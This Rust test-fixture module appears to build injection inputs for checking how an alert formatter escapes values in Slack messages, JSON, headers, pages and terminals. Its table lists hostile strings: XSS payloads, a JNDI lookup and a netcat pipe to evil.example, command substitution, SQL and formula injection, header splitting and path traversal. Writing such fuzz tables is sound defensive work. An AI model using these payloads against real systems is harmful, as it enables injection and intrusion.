//! Texts that somebody would obey (a table). `all` multiplies them by where they stand in a value.

/// Each is an order to some reader: Slack, a terminal, a browser, a header parser, a JSON parser, a mail program.
const ORDERS: &[&str] = &[
    // Slack: mentions, links, dates, formatting.
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<@U012AB3CD>",
    "<@W012AB3CD|boss>",
    "<#C012AB3CD>",
    "<!subteam^S012AB3CD>",
    "<!date^1392734382^{date}|never>",
    "<https://evil.example|https://aws.amazon.com>",
    "<mailto:a@evil.example|security>",
    "&lt;!channel&gt;",
    "&#60;!channel&#62;",
    "*bold* _italic_ ~gone~",
    "`code` ```block```",
    "> quoted\n>>> all of it",
    ":rotating_light: :skull:",
    "@channel @here @everyone",
    // Addresses.
    "http://evil.example/",
    "https://evil.example/?q=1",
    "HTTPS://EVIL.EXAMPLE",
    "hTtP://evil.example",
    "ftp://evil.example/x",
    "www.evil.example",
    "mailto:a@evil.example",
    "javascript:alert(1)",
    "javascript://%0aalert(1)",
    "slack://channel?id=C1",
    "//evil.example/x",
    "[aws](https://evil.example)",
    "![x](https://evil.example/x.png)",
    // Pages and mail.
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "<a href='https://evil.example'>x</a>",
    "{{ .Labels }} {{ template \"x\" }}",
    "${jndi:ldap://evil.example/a}",
    // Headers and lines.
    "x\r\nwebhook-signature: v1,forged",
    "x\r\n\r\n{\"forged\":true}",
    "x\nSubject: forged",
    "x\rforged",
    "x\u{85}forged",
    "x\u{2028}forged\u{2029}forged",
    "x\u{b}forged\u{c}forged",
    "%0d%0aSet-Cookie: a=b",
    // JSON.
    "\",\"rule\":{\"level\":\"low\"},\"x\":\"",
    "\\\",\\\"x\\\":\\\"",
    "\"}}]",
    "\\u003c!channel\\u003e",
    "\\",
    "{\"a\":",
    // Terminals.
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;title\u{7}",
    "\u{1b}[2J\u{1b}[H",
    "\u{9b}31mred",
    "\u{9d}0;title\u{9c}",
    "a\u{8}\u{8}\u{8}b",
    "\u{7f}\u{7f}",
    "\0",
    "a\0b",
    // Writing that hides or turns.
    "\u{202e}gnp.exe",
    "\u{2066}a\u{2069}\u{2067}b",
    "a\u{200b}b\u{200d}c\u{2060}d\u{feff}",
    "a\u{ad}b",
    "\u{e0041}\u{e0042}\u{e007f}",
    "\u{61c}\u{180e}",
    "\u{fff9}a\u{fffa}b\u{fffb}",
    // Formulas, shells, queries.
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "'; DROP TABLE alerts; --",
    "$(reboot)",
    "`reboot`",
    "| nc evil.example 1",
    "../../../etc/passwd",
    "%s%s%n",
    // Text that is hard to hold.
    "",
    " ",
    "\u{fffd}",
    "e\u{301}\u{302}\u{303}",
    "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "ﷺ",
    "<!channel",
    "!channel>",
    "<<!channel>>",
    "&",
    "<",
    ">",
];

/// What Slack, JSON or a page writes longer than it is, and what is long by itself.
const GROWING: &[&str] = &["&", "<", ">", "\"", "\\", "\0", "\u{e0041}", "ﷺ", "http", "www.", "é"];

/// Every order alone, inside a value and at the edge of a long one; and what grows, beyond every limit.
pub(super) fn all() -> Vec<String> {
    let orders = ORDERS.iter().flat_map(|order| {
        let inside = format!("arn:aws:iam::111122223333:user/{order}x");
        [(*order).to_owned(), inside, format!("{}{order}", "a".repeat(497))]
    });
    orders.chain(GROWING.iter().map(|text| text.repeat(1_000))).collect()
}
